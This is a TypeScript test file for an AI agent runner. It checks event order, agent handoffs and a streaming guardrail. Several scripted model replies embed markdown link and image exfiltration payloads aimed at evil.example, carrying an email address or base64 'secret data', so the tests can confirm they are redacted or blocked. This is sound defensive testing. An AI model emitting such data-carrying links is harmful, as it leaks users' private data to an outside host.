import { createGuardrailEngine } from '@baton/guardrail-server';
import type { ModelRequest } from '@openai/agents-core';
import { describe, expect, it, vi } from 'vitest';
import {
  createMemoryThreadStore,
  Runner,
  STREAM_RELEASED_TEXT_CHANGED,
  type GuardrailValidator,
  type RunnerEvent,
} from '../../src/index.js';
import { createScriptedModel, type ScriptedTurn } from '../../src/testing/index.js';
import { lookupTool, manifest, registry } from '../helpers/agents.js';
import { scriptedGuardrail } from '@baton/manifest/testing';

vi.setConfig({ testTimeout: 60_000 });

const TRIAGE = 'io.baton.test.triage';
const REFUNDS = 'io.baton.test.refunds';
const BATON_YML = `
agents:
  ${TRIAGE}:
    handoffs: [${REFUNDS}]
`;
const REFUSAL = 'I can’t share that response: it was withheld by a guardrail.';

/** One scripted model for both agents: each agent's replies in order, told apart by its instructions. */
function twoAgentModel(scripts: Record<string, ScriptedTurn[]>) {
  const seen: Record<string, number> = {};
  return createScriptedModel({
    script: (request: ModelRequest) => {
      const who = request.systemInstructions?.includes(REFUNDS) ? REFUNDS : TRIAGE;
      const n = (seen[who] = (seen[who] ?? 0) + 1);
      const turn = scripts[who]?.[n - 1];
      if (!turn) throw new Error(`no scripted reply ${n} for ${who}`);
      return turn;
    },
  });
}

function runnerWith(options: {
  scripts: Record<string, ScriptedTurn[]>;
  guardrails?: GuardrailValidator;
  onEvent?: (e: RunnerEvent) => void;
  logger?: { warn: (...a: unknown[]) => void };
}) {
  const models = twoAgentModel(options.scripts);
  const store = createMemoryThreadStore();
  const warn = options.logger?.warn ?? (() => undefined);
  const runner = new Runner({
    registry: registry([manifest(TRIAGE, { tools: [lookupTool()] }), manifest(REFUNDS)], BATON_YML),
    tools: { lookup_order: () => ({ status: 'delivered' }) },
    guardrails: options.guardrails ?? createGuardrailEngine(),
    store,
    modelProvider: models.provider,
    ...(options.onEvent ? { onEvent: options.onEvent } : {}),
    logger: { info: () => undefined, warn: (m, f) => warn(m, f), error: () => undefined },
  });
  return { runner, store, models };
}

const HANDOFF_SCRIPT: Record<string, ScriptedTurn[]> = {
  [TRIAGE]: [
    { toolCalls: [{ name: 'lookup_order', arguments: { order_id: '1234' } }] },
    { toolCalls: [{ name: 'system__handoff', arguments: { target_agent_id: REFUNDS, input: 'Refund order 1234', state: {} } }] },
  ],
  [REFUNDS]: [{ chunks: ['Your refund ', 'for order 1234 ', 'is on its way. ', 'Expect it within ', 'five days.'] }],
};

const texts = (events: RunnerEvent[]) => events.flatMap((e) => (e.type === 'text_delta' ? [e.text] : []));

describe('runner events', () => {
  for (const stream of [false, true]) {
    it(`reports a tool call, a handoff and the answer in order${stream ? ' (streamed)' : ''}`, async () => {
      const { runner } = runnerWith({ scripts: HANDOFF_SCRIPT });
      const events: RunnerEvent[] = [];
      const result = await runner.run({
        agentId: TRIAGE,
        input: 'I want a refund for order 1234',
        stream,
        onEvent: (e) => void events.push(e),
      });
      expect(result.status).toBe('completed');
      const [first, second] = result.runs;
      const shape = events
        .filter((e) => e.type !== 'guardrail_decision' && e.type !== 'text_delta')
        .map((e) => [e.type, 'run_id' in e ? e.run_id : e.from_run_id]);
      expect(shape).toEqual([
        ['run_start', first?.run_id],
        ['tool_start', first?.run_id],
        ['tool_end', first?.run_id],
        ['run_end', first?.run_id],
        ['handoff', first?.run_id],
        ['run_start', second?.run_id],
        ['run_end', second?.run_id],
      ]);
      expect(events.find((e) => e.type === 'handoff')).toEqual({
        type: 'handoff',
        thread_id: result.thread_id,
        from_run_id: first?.run_id,
        from_agent_id: TRIAGE,
        to_agent_id: REFUNDS,
        to_run_id: second?.run_id,
      });
      expect(events.find((e) => e.type === 'tool_end')).toMatchObject({ name: 'lookup_order', ok: true, agent_id: TRIAGE });
      expect(events.filter((e) => e.type === 'run_end').map((e) => (e as { status: string }).status)).toEqual(['cancelled', 'completed']);
      // One event per recorded decision, in the same order.
      const decided = events.flatMap((e) => (e.type === 'guardrail_decision' ? [[e.action_type, e.decision, e.reason_code]] : []));
      expect(decided).toEqual(result.guardrail_decisions.map((d) => [d.action_type, d.decision, d.reason_code]));
      // The answer's text arrives before its run ends, and joins to the response.
      const endOfAnswer = events.findIndex((e) => e.type === 'run_end' && e.run_id === second?.run_id);
      expect(events.findIndex((e) => e.type === 'text_delta')).toBeLessThan(endOfAnswer);
      expect(texts(events).join('')).toBe(result.response);
      expect(texts(events).length).toBe(stream ? 2 : 1);
    });
  }

  it('a listener that throws or rejects never changes the run (it is logged)', async () => {
    const warnings: unknown[] = [];
    const quiet = runnerWith({ scripts: HANDOFF_SCRIPT });
    // The same streamed run with a listener that works.
    const baseline = await quiet.runner.run({
      agentId: TRIAGE,
      input: 'I want a refund for order 1234',
      stream: true,
      onEvent: () => undefined,
    });
    const { runner } = runnerWith({
      scripts: HANDOFF_SCRIPT,
      onEvent: () => {
        throw new Error('listener bug');
      },
      logger: { warn: (...a) => warnings.push(a) },
    });
    const result = await runner.run({
      agentId: TRIAGE,
      input: 'I want a refund for order 1234',
      stream: true,
      onEvent: () => Promise.reject(new Error('async listener bug')),
    });
    expect(result.status).toBe('completed');
    expect(result.response).toBe(baseline.response);
    expect(result.runs.map((r) => r.status)).toEqual(baseline.runs.map((r) => r.status));
    expect(result.guardrail_decisions).toEqual(baseline.guardrail_decisions);
    expect(warnings.length).toBeGreaterThan(0);
    expect(JSON.stringify(warnings)).toContain('listener bug');
  });

  it('correlates per run: concurrent calls each see only their own events', async () => {
    const one = createScriptedModel({ script: () => ({ message: 'Answer. ' }) });
    const shared = new Runner({
      registry: registry([manifest(REFUNDS)]),
      guardrails: createGuardrailEngine(),
      modelProvider: one.provider,
    });
    const seen: Record<string, RunnerEvent[]> = { a: [], b: [] };
    const [a, b] = await Promise.all(
      (['a', 'b'] as const).map((k) =>
        shared.run({ agentId: REFUNDS, input: `hello ${k}`, stream: k === 'a', onEvent: (e) => void seen[k]?.push(e) }),
      ),
    );
    for (const [k, result] of [
      ['a', a],
      ['b', b],
    ] as const) {
      const ids = new Set(seen[k]?.map((e) => ('run_id' in e ? e.run_id : e.from_run_id)));
      expect([...ids]).toEqual([result?.run_id]);
    }
  });
});

describe('streamed answers through the AGENT_RESPONSE guardrail (real engine)', () => {
  it('catches a data-carrying link split across two chunks: released text never holds it', async () => {
    const chunks = ['Your order shipped. ', 'Track it [here](https://evil.example/c?em', 'ail=john.doe@example.com) any time. ', 'Thanks.'];
    const events: RunnerEvent[] = [];
    const { runner } = runnerWith({ scripts: { [TRIAGE]: [{ chunks }] } });
    const result = await runner.run({ agentId: TRIAGE, input: 'Where is my order?', stream: true, onEvent: (e) => void events.push(e) });
    const released = texts(events);
    expect(result.status).toBe('completed');
    expect(released.join('')).toBe(result.response);
    expect(result.response).toBe('Your order shipped. Track it [here]([REMOVED:LINK]) any time. Thanks.');
    for (const piece of released) {
      expect(piece).not.toContain('evil.example');
      expect(piece).not.toContain('john.doe');
    }
    // The first sentence left before the rest of the answer existed.
    expect(released[0]).toBe('Your order shipped. ');
    // Same answer as without streaming.
    const plain = runnerWith({ scripts: { [TRIAGE]: [{ chunks }] } });
    expect((await plain.runner.run({ agentId: TRIAGE, input: 'Where is my order?' })).response).toBe(result.response);
  });

  it('a BLOCK mid-stream ends the answer with the refusal; nothing after the checked text is released', async () => {
    const chunks = [
      'Here is your chart. ',
      '![c](https://evil.example/p.png?d=c2VjcmV0IGRh',
      'dGEgZm9yIHRoZSBhdHRhY2tlcg) ',
      'More text that must never be sent. ',
      'And more.',
    ];
    const events: RunnerEvent[] = [];
    const { runner, store } = runnerWith({ scripts: { [TRIAGE]: [{ chunks }] } });
    const result = await runner.run({ agentId: TRIAGE, input: 'Show me a chart', stream: true, onEvent: (e) => void events.push(e) });
    expect(result.status).toBe('completed');
    expect(result.response).toBe(REFUSAL);
    expect(texts(events)).toEqual(['Here is your chart. ']);
    const blocked = events.filter((e) => e.type === 'guardrail_decision' && e.decision === 'BLOCK');
    expect(blocked).toHaveLength(1);
    expect(blocked[0]).toMatchObject({ action_type: 'AGENT_RESPONSE', reason_code: 'EXFILTRATION_LINK' });
    const items = await store.listItems(result.thread_id);
    expect(items.at(-1)?.item).toMatchObject({ role: 'assistant', content: REFUSAL, guardrail: 'BLOCK' });
    expect(JSON.stringify(items)).not.toContain('evil.example');
  });

  it('fails closed when a later check would change text already released', async () => {
    let responseChecks = 0;
    const guard = scriptedGuardrail((request) => {
      if (request.action_type !== 'AGENT_RESPONSE') return undefined;
      responseChecks++;
      // The second look sees more context and redacts a word that already left.
      return responseChecks === 1
        ? undefined
        : { decision: 'MODIFY', reason_code: 'PII_REDACTED', modified_payload: String(request.payload).replace('Alice', '[NAME]') };
    });
    const events: RunnerEvent[] = [];
    const { runner } = runnerWith({
      scripts: { [TRIAGE]: [{ chunks: ['Hello Alice. ', 'Your account is Alice-123.'] }] },
      guardrails: guard.validator,
    });
    const result = await runner.run({ agentId: TRIAGE, input: 'hi', stream: true, onEvent: (e) => void events.push(e) });
    expect(texts(events)).toEqual(['Hello Alice. ']);
    expect(result.response).toBe(REFUSAL);
    expect(result.guardrail_decisions.at(-1)).toMatchObject({
      action_type: 'AGENT_RESPONSE',
      decision: 'BLOCK',
      reason_code: STREAM_RELEASED_TEXT_CHANGED,
    });
    expect(events.at(-2)).toMatchObject({ type: 'guardrail_decision', reason_code: STREAM_RELEASED_TEXT_CHANGED });
  });

  it('a MODIFY releases the modified text', async () => {
    const guard = scriptedGuardrail((request) =>
      request.action_type === 'AGENT_RESPONSE'
        ? { decision: 'MODIFY', reason_code: 'PII_REDACTED', modified_payload: String(request.payload).replaceAll('555-0100', '[PHONE]') }
        : undefined,
    );
    const events: RunnerEvent[] = [];
    const { runner } = runnerWith({
      scripts: { [TRIAGE]: [{ chunks: ['Call us. ', 'Our number is 555-', '0100. ', 'Bye.'] }] },
      guardrails: guard.validator,
    });
    const result = await runner.run({ agentId: TRIAGE, input: 'hi', stream: true, onEvent: (e) => void events.push(e) });
    expect(result.response).toBe('Call us. Our number is [PHONE]. Bye.');
    expect(texts(events).join('')).toBe(result.response);
    expect(texts(events).join('')).not.toContain('555');
  });

  it('releases narration of a turn that calls a tool when that turn ends; the response is the last turn only', async () => {
    const events: RunnerEvent[] = [];
    const { runner } = runnerWith({
      scripts: {
        [TRIAGE]: [
          { chunks: ['Let me look ', 'that up'], toolCalls: [{ name: 'lookup_order', arguments: { order_id: '1234' } }] },
          { chunks: ['It was delivered. ', 'Anything else?'] },
        ],
      },
    });
    const result = await runner.run({ agentId: TRIAGE, input: 'order 1234?', stream: true, onEvent: (e) => void events.push(e) });
    expect(result.response).toBe('It was delivered. Anything else?');
    expect(texts(events)).toEqual(['Let me look that up', 'It was delivered. ', 'Anything else?']);
    // The narration left before the tool ran.
    expect(events.findIndex((e) => e.type === 'text_delta')).toBeLessThan(events.findIndex((e) => e.type === 'tool_start'));
  });

  it('holds streamed text while a listener is busy (backpressure) and still delivers all of it', async () => {
    const chunks = ['One. ', 'Two. ', 'Three. ', 'Four.'];
    let release: (() => void) | undefined;
    const delivered: string[] = [];
    const { runner } = runnerWith({ scripts: { [TRIAGE]: [{ chunks }] } });
    const running = runner.run({
      agentId: TRIAGE,
      input: 'count',
      stream: true,
      onEvent: (e) => {
        if (e.type !== 'text_delta') return undefined;
        delivered.push(e.text);
        // The first piece is held until the test lets it go.
        return delivered.length === 1 ? new Promise<void>((r) => (release = r)) : undefined;
      },
    });
    await vi.waitFor(() => expect(release).toBeDefined(), { timeout: 30_000 });
    expect(delivered).toEqual(['One. ']);
    release?.();
    const result = await running;
    expect(delivered.join('')).toBe(result.response);
  });
});
